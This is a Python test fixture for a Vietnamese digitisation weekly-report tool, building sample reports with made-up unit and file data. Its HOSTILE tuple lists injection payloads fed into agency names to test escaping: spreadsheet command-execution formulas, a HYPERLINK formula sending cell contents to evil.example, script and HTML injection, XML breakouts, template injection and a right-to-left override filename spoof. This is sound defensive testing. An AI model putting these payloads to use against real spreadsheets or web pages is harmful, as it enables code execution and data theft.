"""Reports of made-up figures for the tests of the formats, a hostile one among them."""

from __future__ import annotations

from collections.abc import Iterable
from datetime import date, timedelta
from functools import cache
from typing import Any

from sohoa.report import chart_specs
from sohoa.report.model import Chart, Column, Row, Section, Table, WeekReport

MONDAY = date(2024, 4, 8)
UNIT_COLUMNS = (
    Column("unit_code", "Mã đơn vị", "Unit code", "code"),
    Column("unit", "Đơn vị", "Unit", "text"),
    Column("dossiers", "Hồ sơ phải số hóa", "Dossiers to digitise", "count"),
    Column("rate", "Tỷ lệ số hóa", "Digitisation rate", "percent"),
    Column("blur", "Độ mờ", "Blur", "number", "mm"),
    Column("first_seen", "Thấy lần đầu", "First seen", "date"),
    Column("week", "Tuần", "Week", "week"),
)
FILE_COLUMNS = (
    Column("agency", "Mã cơ quan", "Agency code", "code"),
    Column("file", "Tệp", "File", "text"),
    Column("title", "Tên giấy tờ", "Title", "text"),
    Column("defect", "Lỗi", "Defect", "text"),
    Column("scan_date", "Ngày quét", "Scan date", "date"),
    Column("defects", "Các lỗi", "Defects", "labels", labels="defects"),
    Column("verdict", "Kết luận", "Verdict", "label", labels="verdicts", note="title"),
    Column("remark", "Ghi chú", "Remark", "text"),
)
HOSTILE = (
    "=cmd|' /C calc'!A0",
    "+1+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"bấm vào đây")',
    "http://evil.example/x",
    "<script>window.hacked = true</script>",
    "</script><script>window.hacked = true</script>",
    '"><img src=x onerror="window.hacked = true">',
    '</script x="<!--<script>',
    "]]></t></is></c>",
    "{{ 7 * 7 }}{% raw %}${7*7}",
    "<r><t>a</t></r></is></c><c r='Z9'><f>1+1</f></c><c t='inlineStr'><is><r><t>b</t></r>",
    "_x003D_cmd _x0000_",
    "hoa\u202efdp.exe",
    "\u200f\u200e\u2067đảo chiều\u2069",
    "chuông \x07\x00\x1b[31m đỏ\x7f\x85",
    "một nửa \ud83d chữ \udfff\ufffe\uffff",
    "dòng\r\nmới\tthẻ\u2028\u2029",
    "Tờ khai " * 1250,
    "Ộ" * 10_000,
    "&Aamp;&lt;' \\ `",
)


def records(columns: tuple[Column, ...], rows: Iterable[tuple[Any, ...]]) -> tuple[Row, ...]:
    """Rows by the keys of their columns."""
    return tuple(dict(zip((column.key for column in columns), row, strict=True)) for row in rows)


def unit_rows(count: int) -> tuple[Row, ...]:
    """Rows of every kind of value, each third one with what is not known."""
    rows = (
        (f"{i:05d}", f"Xã Bằng Mạc {i}", 942_934 + i, 97.923 - i % 90, 0.125 * i, MONDAY + timedelta(i % 7), "2024-W15")
        if i % 3
        else (f"{i:05d}", f"Thị trấn Đồng Đăng {i}", 0, None, None, None, None)
        for i in range(count)
    )
    return records(UNIT_COLUMNS, rows)


def file_rows(names: Iterable[str]) -> tuple[Row, ...]:
    """Files whose every text is a name; the defects and verdicts are codes."""
    defects = (("skewed", "blurred"), ("glare",), ())
    return records(
        FILE_COLUMNS,
        (
            ("H37.81.03", name, name, name, MONDAY, defects[n % 3], "review" if n % 2 else None, name)
            for n, name in enumerate(names)
        ),
    )


@cache
def sample_charts(names: tuple[str, ...], alt_vi: str) -> dict[str, Chart]:
    """Every kind of chart of the report over some names; each has its number of marks in ``MARKS``."""
    rates = [10.5 * (i % 9) for i in range(len(names))]
    labelled = [{"unit": name, "rate": rate, "label": f"{rate} %"} for name, rate in zip(names, rates, strict=True)]
    mondays = [(MONDAY - timedelta(7 * (9 - i))).isoformat() for i in range(12)]
    weeks = [{"day": day, "rate": 8.0 * i, "young": i > 7} for i, day in enumerate(mondays[:10])]
    ahead = [{"day": day, "low": 60, "middle": 70, "high": 80} for day in mondays[10:]]
    cells = [{**row, "week": f"T{week}", "young": week > 20} for row in labelled for week in range(10, 22)]
    causes = [
        {"defect": row["unit"], "bad": 9, "label": "9", "cumulative": 100 * (i + 1) / len(names)}
        for i, row in enumerate(labelled)
    ]
    places = [
        {
            **row,
            "lat": 21.5 + i % 5 / 9,
            "lon": 106.5 + i / 40,
            "dossiers": i + 1,
            "class": chart_specs.rate_class(row["rate"]),
        }
        for i, row in enumerate(labelled)
    ]
    drawn = (
        chart_specs.trend(weeks, ahead, {"baseline": 5.6, "target": 86.0}, "Theo tuần", alt_vi),
        chart_specs.ranking(labelled, 86.0, "Xếp hạng", alt_vi),
        chart_specs.heat(cells, list(names), [f"T{week}" for week in range(10, 22)], "Đơn vị và tuần", alt_vi),
        chart_specs.pareto(causes, "Lỗi theo nguyên nhân", alt_vi),
        chart_specs.commune_map(places, [], "Các xã", alt_vi),
    )
    return {chart.name: chart for chart in drawn}


MARKS = {
    "trend": (".role-mark.mark-symbol path", lambda names: 2 * 10),  # points, and the places to point at
    "ranking": (".role-mark.mark-rect path", lambda names: names),
    "heat": (".role-mark.mark-rect path", lambda names: 11 * names),  # the youngest week has no shade
    "pareto": (".role-mark.mark-rect path", lambda names: names),
    "map": (".role-mark.mark-symbol path", lambda names: names),
}
"""Chart -> what finds its marks, and how many there are for a number of names."""


def sample_report(rows: int = 30, *, hostile: tuple[str, ...] = ()) -> WeekReport:
    """A report with two sections, all charts and an annex; ``hostile`` texts stand wherever an agency's may stand."""
    names = hostile or ("Huyện Cao Lộc", "Huyện Lộc Bình", "Thành phố Lạng Sơn")
    note = "Dấu – là chưa biết."
    units = Table("units", "Kết quả theo đơn vị", "Results by unit", UNIT_COLUMNS, unit_rows(rows), note)
    files_table = Table("faulty_files", "Danh sách tệp lỗi", "Faulty files", FILE_COLUMNS, file_rows(names))
    short = Table("rates", "Tỷ lệ số hóa", "Rate", UNIT_COLUMNS[:4], unit_rows(3))
    drawn = sample_charts(tuple(name[:300] for name in names), "Huyện Cao Lộc 10,5 %; " + "; ".join(hostile))
    said = ("Toàn tỉnh đạt 97,92 %: 942.934 hồ sơ.", *hostile)
    sections = (
        Section(
            "I", "Kết quả số hóa", said, (short,), tuple(chart for name, chart in drawn.items() if name != "pareto")
        ),
        Section("II", "Chất lượng bản quét", said[:1], (), (drawn["pareto"],)),
    )
    definitions = (
        "Tỷ lệ đạt: hồ sơ có thành phần và kết quả đã số hóa trên số hồ sơ đã tiếp nhận.",
        "Tuần ổn định: không còn tăng.",
    )
    annex, versions = (units, files_table), ("sohoa 0.1.0", "ngưỡng 0123456789ab")
    week, days = "2024-W15", (MONDAY, MONDAY + timedelta(6))
    return WeekReport(week, *days, sections, annex, said, definitions, versions, "ab" * 32)
